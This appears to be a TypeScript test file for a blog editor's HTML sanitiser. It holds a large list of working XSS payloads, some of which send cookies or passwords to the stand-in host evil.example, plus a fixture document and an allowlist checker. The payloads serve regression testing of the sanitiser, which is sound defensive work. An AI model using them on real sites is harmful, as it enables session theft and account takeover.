/**
 * The sanitiser's regression corpus (QUALITY R3): hostile HTML an attacker (or a careless paste)
 * could put into a blog post or press highlight. Nothing executable may survive
 * modules/content/sanitize.ts (sanitiserProblems below says what did). Collected
 * from the usual filter-evasion cheat sheets and mutation-XSS write-ups; `data:` images are left out
 * on purpose (the save refuses those with its own message before sanitising; see blogs tests).
 * Exported for the browser check too (a real browser renders each one on a blog post).
 *
 * Also here: a document using every feature of the editor, which must survive a save unchanged, and
 * the checker the tests hold sanitised HTML to.
 */
import { parseHTML } from 'linkedom'
import { BLOCK_TAGS, FONT_FAMILIES, FONT_SIZES, LINE_HEIGHTS, MARK_TAGS, PALETTE, styleString } from '../../shared/rich-text.ts'

export const XSS_PAYLOADS: readonly string[] = [
  // Script elements
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src="https://evil.example/x.js"></script>',
  '<script/src="https://evil.example/x.js"></script>',
  '<script type="module">import("https://evil.example/x.js")</script>',
  '<script>alert(1)',
  '<<script>alert(1);//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\x20type="text/javascript">alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<p>before<script>document.cookie</script>after</p>',
  '<script>/*</script><img src=x onerror=alert(1)>*/</script>',
  // Event handlers
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<IMG SRC=x ONERROR=alert(1)>',
  '<img src=x onerror=alert`1`>',
  '<img src=x oNeRrOr=alert(1)//',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror\n=alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<p onclick="alert(1)">click</p>',
  '<p onmouseover=alert(1)>hover</p>',
  '<a href="https://yerth.com" onmouseover="alert(1)">link</a>',
  '<span onfocus=alert(1) tabindex=0 autofocus>x</span>',
  '<h1 onanimationstart=alert(1) style="animation-name:x">x</h1>',
  '<strong onpointerenter=alert(1)>x</strong>',
  '<body onload=alert(1)>',
  '<div onwheel=alert(1)>x</div>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>x</textarea>',
  '<keygen autofocus onfocus=alert(1)>',
  '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
  '<img """><script>alert(1)</script>">',
  // javascript:, vbscript: and data: links
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="&#14;javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="VBSCRIPT:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="DaTa:text/html,<script>alert(1)</script>">x</a>',
  '<a href="livescript:alert(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example/phish">x</a>',
  '<a href="\\\\evil.example/phish">x</a>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="javascript:alert(1)" target="_blank">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<a href="https://yerth.com" target="_top">framebust</a>',
  '<img src="javascript:alert(1)">',
  '<img src="JaVaScRiPt:alert(1)">',
  '<img src="vbscript:msgbox(1)">',
  '<img src=" &#106;avascript:alert(1)">',
  '<img dynsrc="javascript:alert(1)">',
  '<img lowsrc="javascript:alert(1)">',
  '<img src="https://yerth.com/a.png" srcset="javascript:alert(1) 1x">',
  '<img srcset="x 1x, javascript:alert(1) 2x" src="https://yerth.com/a.png">',
  '<img src="//evil.example/track.png">',
  // Frames, objects, embeds, forms, meta, base, link, style
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<IFRAME SRC=# onload=alert(1)></IFRAME>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
  '<embed src="javascript:alert(1)">',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<applet code="Evil.class"></applet>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<form action="https://evil.example/steal" method="post"><input name="password"></form>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Set-Cookie" content="session=evil">',
  '<meta charset="x-imap4-modified-utf7">',
  '<base href="javascript:alert(1)//">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<link rel="import" href="https://evil.example/x.html">',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<STYLE>li{list-style-image:url("javascript:alert(1)")}</STYLE><ul><li>x</li></ul>',
  // Inline style tricks
  '<p style="background-image:url(javascript:alert(1))">x</p>',
  '<span style="width:expression(alert(1))">x</span>',
  '<span style="color:expression(alert(1))">x</span>',
  '<span style="color:red;background:url(https://evil.example/track.png)">x</span>',
  '<span style="behavior:url(x.htc)">x</span>',
  '<span style="-moz-binding:url(https://evil.example/x.xml#xss)">x</span>',
  '<span style="font-family:Inter;position:fixed;top:0;left:0;width:100%;height:100%">overlay</span>',
  '<p style="line-height:1.5;background:url(javascript:alert(1))">x</p>',
  '<span style="color:#dc2626\\;background:url(javascript:alert(1))">x</span>',
  '<span style="font-size:18px/**/;background:url(javascript:alert(1))">x</span>',
  '<span style="color:&#x23;dc2626;x:expression(alert(1))">x</span>',
  '<span style="font-family:\'Inter\',expression(alert(1))">x</span>',
  '<p style="content:\'\\3c script\\3e\'">x</p>',
  // SVG and MathML
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">click</math>',
  '<math><maction actiontype="statusline#https://yerth.com" xlink:href="javascript:alert(1)">x</maction></math>',
  // Template, noscript and mutation-XSS nesting
  '<template><script>alert(1)</script></template>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!DOCTYPE html><html><head><script>alert(1)</script></head></html>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  // Unclosed tags and attribute breaking
  '<img src="x" alt="" onerror="alert(1)"',
  '<img src=x onerror=alert(1)',
  '<a href="https://yerth.com/" title="a" onclick="alert(1)" x="',
  '<p style="line-height:1.5" onclick=alert(1)//',
  '"><script>alert(1)</script>',
  '\'><img src=x onerror=alert(1)>',
  '<a href="https://yerth.com/?q="onmouseover="alert(1)">x</a>',
  '<a href=\'https://yerth.com/\' onmouseover=\'alert(1)\'>x</a>',
  '<a href=https://yerth.com/ onmouseover=alert(1)>x</a>',
  '<img src=`x`onerror=alert(1)>',
  '<a title="&quot;><script>alert(1)</script>" href="https://yerth.com">x</a>',
  '<span style="font-size:18px" "onmouseover=alert(1)">x</span>',
  '<div id="x"></div><a href="#" onclick="document.getElementById(\'x\').innerHTML=\'<img src=x onerror=alert(1)>\'">x</a>',
  // Other elements that can run or exfiltrate
  '<object><param name="src" value="javascript:alert(1)"></object>',
  '<portal src="https://evil.example"></portal>',
  '<img src="https://yerth.com/a.png" usemap="#m"><map name="m"><area href="javascript:alert(1)" shape="rect" coords="0,0,9,9"></map>',
  '<button popovertarget="x" onclick="alert(1)">x</button>',
  '<dialog open onclose=alert(1)>x</dialog>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<bgsound src="javascript:alert(1)">',
  '<x-custom onclick=alert(1)>x</x-custom>',
  '<img src="https://yerth.com/a.png" referrerpolicy="unsafe-url" crossorigin="use-credentials">',
  '<a href="https://yerth.com" ping="https://evil.example/track">x</a>',
  '<a href="https://yerth.com" download="evil.exe">x</a>',
  '<img src="https://yerth.com/a.png" style="display:none" onload="fetch(\'https://evil.example/?\'+document.cookie)">',
  '<span data-x="1" id="login" class="admin" name="x" is="x-evil" slot="x">clobber</span>',
  '<form id="test"><input name="attributes"></form>',
]

/** Every feature of the editor (admin-area §9), written the way the editor writes it. */
export function everyFeatureDocument(): string {
  const parts: string[] = []
  for (const tag of BLOCK_TAGS) parts.push(`<${tag}>Block ${tag}</${tag}>`)
  for (const lh of LINE_HEIGHTS) parts.push(`<p style="${styleString([['line-height', lh]])}">Line spacing ${lh}</p>`)
  for (const lh of LINE_HEIGHTS) parts.push(`<h3 style="line-height:${lh}">Heading spaced ${lh}</h3>`)
  for (const font of FONT_FAMILIES) parts.push(`<p><span style="font-family:${font}">The font ${font}</span></p>`)
  for (const size of FONT_SIZES) parts.push(`<p><span style="font-size:${size}">Size ${size}</span></p>`)
  parts.push(`<p>${PALETTE.map((c) => `<span style="color:${c}">${c}</span>`).join(' ')}</p>`)
  parts.push(`<p><span style="${styleString([['font-family', 'Times New Roman'], ['font-size', '24px'], ['color', '#7c3aed']])}">All three styles</span> and <span style="font-family:Garamond"><span style="font-size:13px"><span style="color:#db2777">nested ones</span></span></span></p>`)
  parts.push('<p><strong>bold</strong> <em>italic</em> <u>underline</u> <s>strike</s> <strong><em><u><s>all four</s></u></em></strong> <span style="color:#dc2626"><strong>red bold</strong></span></p>')
  parts.push('<ul><li><p>First bullet</p></li><li><p>Second bullet</p><ul><li><p>Nested bullet</p></li></ul></li></ul>')
  parts.push('<ol><li><p>First number</p></li><li><p>Second number</p><ol><li><p>Nested number</p></li></ol></li></ol>')
  parts.push('<p><a href="https://www.yerth.com/about" target="_blank" rel="noopener noreferrer">an outside link</a>, <a href="/journal/blogs">a site link</a>, <a href="mailto:hello@yerth.com">mail</a> and <a href="https://example.com/a?b=1&amp;c=2" title="With a title">a query</a></p>')
  parts.push('<p><img src="/media/images/3f2a9c0b7e1d4a5b6c7d8e9f00112233445566778899aabbccddeeff00112233.webp" alt="An uploaded image"></p>')
  parts.push('<p><img src="https://images.example.com/photo.jpg" alt="A linked image" title="Photo"></p>')
  parts.push('<p>Line one<br>Line two<br><br>after a blank line</p>')
  parts.push('<p>Emoji 🚗 ⚡ 🌍 😀 👍🏽 and text &amp; &lt;markup&gt; "quotes" \'apostrophes\' non&nbsp;breaking — em dash, ünïcödé, 日本語</p>')
  parts.push('<h2 style="line-height:2.0"><span style="color:#22a625"><strong>A styled heading</strong></span></h2>')
  parts.push('<p></p>')
  return parts.join('')
}

const ALLOWED_TAGS = new Set<string>([...BLOCK_TAGS, ...MARK_TAGS, 'span', 'a', 'img', 'ul', 'ol', 'li', 'br'])
const ALLOWED_ATTRIBUTES: Record<string, string[]> = {
  a: ['href', 'title', 'target', 'rel'],
  img: ['src', 'alt', 'title'],
  span: ['style'],
  ...Object.fromEntries(BLOCK_TAGS.map((tag) => [tag, ['style']])),
}
const fontValue = (v: string) => FONT_FAMILIES.some((f) => v === f || v === `"${f}"` || v === `'${f}'`)
const STYLE_RULES: Record<string, (v: string) => boolean> = {
  'font-family': fontValue,
  'font-size': (v) => (FONT_SIZES as readonly string[]).includes(v),
  color: (v) => (PALETTE as readonly string[]).includes(v.toLowerCase()),
  'line-height': (v) => (LINE_HEIGHTS as readonly string[]).includes(v),
}
const SAFE_URL = /^(https?:\/\/[^\s]|mailto:|\/(?!\/)|#)/i

/**
 * Problems found in sanitised HTML; empty when nothing could run, load or restyle the page. Checks the
 * raw markup and the parsed DOM against the editor's allowlist, independently of sanitize.ts.
 */
export function sanitiserProblems(html: string): string[] {
  const found: string[] = []
  // Markup-level: the raw tags (text is escaped, so "<" only starts a real tag).
  for (const tag of html.match(/<[^>]*>/g) ?? []) {
    if (/^<\/?(script|iframe|object|embed|svg|math|style|form|meta|base|link|template|noscript|frame|applet|input|textarea|button)\b/i.test(tag)) found.push(`forbidden tag ${tag}`)
    if (/\son[a-z]+\s*=/i.test(tag)) found.push(`event handler in ${tag}`)
    if (/javascript:|vbscript:|data:|livescript:|expression\s*\(|url\s*\(|@import|behavior|binding/i.test(tag)) found.push(`dangerous value in ${tag}`)
  }
  // DOM-level: every element, attribute, URL and style property is on the allowlist.
  const { document } = parseHTML(`<!doctype html><html><body>${html}</body></html>`)
  for (const el of document.body.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase()
    if (!ALLOWED_TAGS.has(tag)) found.push(`element <${tag}>`)
    for (const { name, value } of Array.from(el.attributes) as Array<{ name: string; value: string }>) {
      if (!(ALLOWED_ATTRIBUTES[tag] ?? []).includes(name)) found.push(`attribute ${name} on <${tag}>`)
      if ((name === 'href' || name === 'src') && !SAFE_URL.test(value.trim())) found.push(`${name}="${value}" on <${tag}>`)
      if (name === 'target' && value !== '_blank') found.push(`target=${value}`)
      if (name === 'style') {
        for (const decl of value.split(';').filter(Boolean)) {
          const [prop, ...rest] = decl.split(':')
          const rule = STYLE_RULES[prop.trim().toLowerCase()]
          const allowedHere = tag === 'span' ? prop !== 'line-height' : prop === 'line-height'
          if (!rule || !allowedHere || !rule(rest.join(':').trim())) found.push(`style ${decl} on <${tag}>`)
        }
      }
    }
    if (tag === 'a' && el.getAttribute('target') === '_blank' && el.getAttribute('rel') !== 'noopener noreferrer') found.push('target=_blank without noopener')
  }
  return found
}
